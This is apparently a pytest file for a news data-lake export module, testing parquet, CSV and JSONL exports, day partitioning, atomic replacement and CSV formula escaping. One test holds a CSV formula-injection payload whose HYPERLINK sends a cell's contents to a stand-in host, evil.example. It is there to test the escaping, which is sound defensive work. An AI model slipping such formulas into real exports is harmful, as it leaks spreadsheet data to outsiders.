"""Exports on a real lake: every table and view, partitioned by day, atomic, and never over a stranger's folder."""

from __future__ import annotations

import json
from pathlib import Path

import duckdb
import pytest

from newslake.warehouse.export import export_lake, exported_names
from newslake.warehouse.lake import connect
from tests.lakes import new_lake


@pytest.fixture
def con(tmp_path: Path) -> duckdb.DuckDBPyConnection:
    return connect(new_lake(tmp_path / "lake", sample=True))


def test_parquet_holds_every_table_and_view_with_article_data_by_day(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    target = tmp_path / "export"
    written = {t.name: t for t in export_lake(con, target, "parquet", None)}
    assert set(written) == set(exported_names())
    assert written["articles"].rows == 1 and written["articles"].partitioned
    assert written["mentions"].rows == 2 and written["mentions"].partitioned  # by their article's day
    assert not written["entities"].partitioned
    manifest = json.loads((target / "_manifest.json").read_text())
    assert manifest["format"] == "parquet" and manifest["tables"]["articles"]["rows"] == 1
    [day] = [p.name for p in (target / "articles").iterdir()]
    assert day == "day=2026-01-02"  # the extraction day: the article gives no publication date
    documents = duckdb.sql(f"SELECT * FROM read_parquet('{target}/documents/**/*.parquet')")
    assert "content" not in documents.columns  # raw bytes stay in the lake


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_csv_and_jsonl_write_one_file_per_table(con: duckdb.DuckDBPyConnection, tmp_path: Path, fmt: str) -> None:
    target = tmp_path / "export"
    export_lake(con, target, fmt, None)
    assert (target / f"articles.{fmt}").exists() and (target / f"daily_articles.{fmt}").exists()


def test_since_keeps_the_rows_of_that_day_or_later(con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    from datetime import date

    written = {t.name: t.rows for t in export_lake(con, tmp_path / "export", "parquet", date(2026, 1, 3))}
    assert written["articles"] == 0 and written["entities"] == 2  # entities have no day: all of them


def test_an_export_replaces_the_previous_one_but_never_a_stranger_folder(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    target = tmp_path / "export"
    export_lake(con, target, "csv", None)
    export_lake(con, target, "jsonl", None)
    assert (target / "articles.jsonl").exists() and not (target / "articles.csv").exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary folders left
    stranger = tmp_path / "photos"
    stranger.mkdir()
    (stranger / "holiday.jpg").write_bytes(b"jpeg")
    with pytest.raises(FileExistsError, match="not a newslake export"):
        export_lake(con, stranger, "csv", None)
    assert (stranger / "holiday.jpg").read_bytes() == b"jpeg"


def test_an_empty_table_is_a_file_with_its_columns_so_every_table_reads(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    target = tmp_path / "export"
    written = {t.name: t.rows for t in export_lake(con, target, "parquet", None)}
    assert written["article_versions"] == 0
    for name in exported_names():
        relation = duckdb.sql(f"SELECT * FROM read_parquet('{target}/{name}/**/*.parquet', hive_partitioning = true)")
        assert len(relation.fetchall()) == written[name], name
    columns = duckdb.sql(f"SELECT * FROM read_parquet('{target}/article_versions/**/*.parquet')").columns
    assert "superseded_at" in columns and "title" in columns


def test_csv_for_spreadsheets_writes_formula_like_text_as_text_and_leaves_the_rest(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    import csv

    hostile = '=HYPERLINK("http://evil.example/?"&A1, "Click")'
    con.execute("UPDATE lake.articles SET title = ?, site_name = ?", [hostile, "@jane"])
    plain, escaped = tmp_path / "plain", tmp_path / "escaped"
    export_lake(con, plain, "csv", None)
    export_lake(con, escaped, "csv", None, escape_formulas=True)

    def rows(folder: Path, name: str) -> list[dict[str, str]]:
        with (folder / f"{name}.csv").open(newline="", encoding="utf-8") as handle:
            return list(csv.DictReader(handle))

    [before], [after] = rows(plain, "articles"), rows(escaped, "articles")
    assert (before["title"], before["site_name"]) == (hostile, "@jane")  # exact unless asked
    assert (after["title"], after["site_name"]) == ("'" + hostile, "'@jane")
    assert {k: v for k, v in after.items() if k not in ("title", "site_name")} == {
        k: v for k, v in before.items() if k not in ("title", "site_name")
    }  # numbers, dates and plain text as they were
    assert json.loads((escaped / "_manifest.json").read_text())["formulas_escaped"] is True
    with pytest.raises(ValueError, match="for CSV"):
        export_lake(con, tmp_path / "x", "parquet", None, escape_formulas=True)
